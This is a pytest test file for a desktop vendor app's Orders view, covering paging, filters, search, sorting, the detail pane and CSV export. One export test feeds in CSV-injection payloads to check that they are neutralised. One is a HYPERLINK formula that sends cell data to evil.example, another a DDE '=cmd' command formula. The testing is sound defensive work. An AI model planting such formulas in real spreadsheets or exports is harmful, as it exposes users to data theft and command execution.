"""The Orders view over a real SQLite cache: page, filter, search, sort, detail, export."""

from __future__ import annotations

import csv
import datetime as dt

import pytest
from PySide6.QtCore import Qt

from vendor_desktop.cache.core.apply import apply_changes
from vendor_desktop.cache.core.changes import ChangeSet
from vendor_desktop.cache.core.database import CacheDatabase
from vendor_desktop.ui.orders.view import OrdersView
from vendor_desktop.viewmodels.core.paged_table import FETCH_STEP
from vendor_desktop.viewmodels.orders.viewmodel import COLUMNS, OrdersViewModel

from .conftest import make_order

pytestmark = pytest.mark.usefixtures("english")


@pytest.fixture
def view(qtbot, orders_db, runner):
    vm = OrdersViewModel(orders_db, runner)
    w = OrdersView(vm)
    qtbot.addWidget(w)
    w.resize(1200, 700)
    w.show()
    return w


def test_model_passes_qt_model_checks(qtmodeltester, orders_db, runner):
    vm = OrdersViewModel(orders_db, runner)
    qtmodeltester.check(vm.model)


def test_the_list_pages_rather_than_loading_every_order(view):
    model = view.vm.model
    assert view.vm.count == 1201
    assert model.rowCount() == FETCH_STEP  # only the first page is exposed to the view
    assert model.canFetchMore(model.index(-1, -1))
    view.table.scrollToBottom()
    assert model.rowCount() > FETCH_STEP  # scrolling fetches more
    assert view.count.text() == "1,201 orders"


def test_newest_orders_come_first_with_money_right_aligned(view):
    model = view.vm.model
    first = model.index(0, COLUMNS.index("created"))
    second = model.index(1, COLUMNS.index("created"))
    assert first.data() >= second.data()
    amount = model.index(0, COLUMNS.index("amount"))
    assert amount.data().startswith("¥")
    assert amount.data(Qt.ItemDataRole.TextAlignmentRole) & Qt.AlignmentFlag.AlignRight


def test_filter_by_state_and_market(view, qtbot):
    view.state.setCurrentIndex(view.state.findData("unpaid"))
    assert view.vm.count == 400
    assert {view.vm.model.index(r, COLUMNS.index("state")).data() for r in range(50)} == {"Unpaid"}
    view.state.setCurrentIndex(0)
    view.market.setCurrentIndex(view.market.findData("image"))
    assert view.vm.count == 1
    assert view.vm.model.index(0, COLUMNS.index("market")).data() == "Image market"


def test_search_by_order_number_buyer_or_listing(view, qtbot):
    qtbot.keyClicks(view.search, "2026110100000042")
    assert view.vm.count == 1
    # Chinese arrives through an input method, not key by key (QTest only types ASCII)
    view.search.setText("王*明")
    assert view.vm.count == 1
    view.search.setText("安全加固")
    assert view.vm.count == 1
    assert view.vm.model.index(0, COLUMNS.index("listing")).data() == "安全加固镜像 CentOS"


def test_nothing_found_shows_an_empty_state_that_says_what_to_do(view, qtbot):
    qtbot.keyClicks(view.search, "no such order")
    assert view.vm.count == 0
    assert view.list_stack.currentWidget() is view.empty
    assert "Clear the filters" in view.empty.text()
    view.clear.click()
    assert view.vm.count == 1201
    assert view.search.text() == ""
    assert view.list_stack.currentWidget() is view.table


def test_date_range_filters_on_the_shanghai_date(view, orders_db):
    view.use_dates.setChecked(True)
    view.date_from.setDate(dt.date(2026, 11, 1))
    view.date_to.setDate(dt.date(2026, 11, 1))
    # orders n = 0..13 fall on 11-01 10:00..23:00 Beijing time
    assert view.vm.count == 14
    view.use_dates.setChecked(False)
    assert view.vm.count == 1201


def test_sort_by_amount_from_the_header(view):
    column = COLUMNS.index("amount")
    view.table.sortByColumn(column, Qt.SortOrder.DescendingOrder)
    assert view.vm.model.index(0, column).data() == "¥999,999.00"
    view.table.sortByColumn(column, Qt.SortOrder.AscendingOrder)
    assert view.vm.model.index(0, column).data() == "¥10.00"


def test_detail_pane_shows_the_whole_order_with_the_virtual_number(view, qtbot):
    view.market.setCurrentIndex(view.market.findData("image"))
    view.table.selectRow(0)
    qtbot.waitUntil(lambda: bool(view.detail_values))
    labels = {name: label.text() for name, label in view.detail_values.items()}
    assert labels["Virtual number"] == "170 0000 5000-0001"  # R-ORD-4
    assert labels["Contact (masked)"] == "138****5678"
    assert labels["State"] == "Refunding"
    assert labels["Amount"] == "¥999,999.00"


def test_export_writes_the_filtered_list_as_excel_friendly_csv(view, qtbot, tmp_path):
    view.state.setCurrentIndex(view.state.findData("unpaid"))
    path = tmp_path / "orders.csv"
    with qtbot.waitSignal(view.vm.export_finished, timeout=10_000) as done:
        view.vm.export_csv(str(path))
    assert done.args == [str(path), 400]
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the Chinese correctly
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0][0] == "Order number"
    assert len(rows) == 401
    assert all(r[COLUMNS.index("state")] == "Unpaid" for r in rows[1:])
    assert rows[1][COLUMNS.index("buyer")] == "杭州**科技有限公司"
    assert rows[1][COLUMNS.index("amount")].replace(".", "").isdigit()  # plain number for sums


@pytest.mark.parametrize(
    ("buyer", "listing", "shown_buyer", "shown_listing"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "云桌面", "'=HYPERLINK(", "云桌面"),
        ("+86 138", "@SUM(1+1)", "'+86 138", "'@SUM(1+1)"),
        ("-2+3", "\t=cmd|' /C calc'!A0", "'-2+3", "'\t=cmd"),
        ("\r=1+1", "安全加固镜像 =1", "'\r=1+1", "安全加固镜像 =1"),
    ],
)
def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
    qtbot, tmp_path, runner, buyer, listing, shown_buyer, shown_listing
):
    """OWASP CSV injection: names typed by buyers and vendors never become formulas in Excel."""
    db = CacheDatabase.open(tmp_path / "cache.sqlite3")
    with db.session() as s, s.begin():
        apply_changes(s, [make_order(1, buyer=buyer, listing=listing), make_order(2, amount_fen=-1250)])
    vm = OrdersViewModel(db, runner)
    path = tmp_path / "orders.csv"
    with qtbot.waitSignal(vm.export_finished, timeout=10_000):
        vm.export_csv(str(path))
    db.close()
    with path.open(encoding="utf-8-sig", newline="") as f:  # as Excel reads it: a CR in a cell stays
        rows = {r[0]: r for r in csv.reader(f)}
    cells = rows["2026110100000001"]
    assert cells[COLUMNS.index("buyer")].startswith(shown_buyer)
    assert cells[COLUMNS.index("listing")].startswith(shown_listing)
    assert cells[COLUMNS.index("buyer")].lstrip("'") == buyer  # nothing else changes
    # Money stays a number a spreadsheet can sum, a negative amount (a refund line) too.
    assert rows["2026110100000002"][COLUMNS.index("amount")] == "-12.50"
    assert cells[COLUMNS.index("amount")] == "100.00"


def test_a_pull_refreshes_the_list_and_keeps_the_selection(view, orders_db, qtbot):
    view.market.setCurrentIndex(view.market.findData("image"))
    view.table.selectRow(0)
    qtbot.waitUntil(lambda: view.vm.selected is not None)
    changed = make_order(5000, state="refunded", market="image", amount_fen=999_999_00)
    changed["version"] = 2
    with orders_db.session() as s, s.begin():
        apply_changes(s, [changed, make_order(6000, market="image")])
    changes = ChangeSet()
    changes.add("order", "o05000")
    view.vm.on_data_changed(changes)
    qtbot.waitUntil(lambda: view.vm.count == 2)
    assert view.vm.selected is not None and view.vm.selected.state == "refunded"
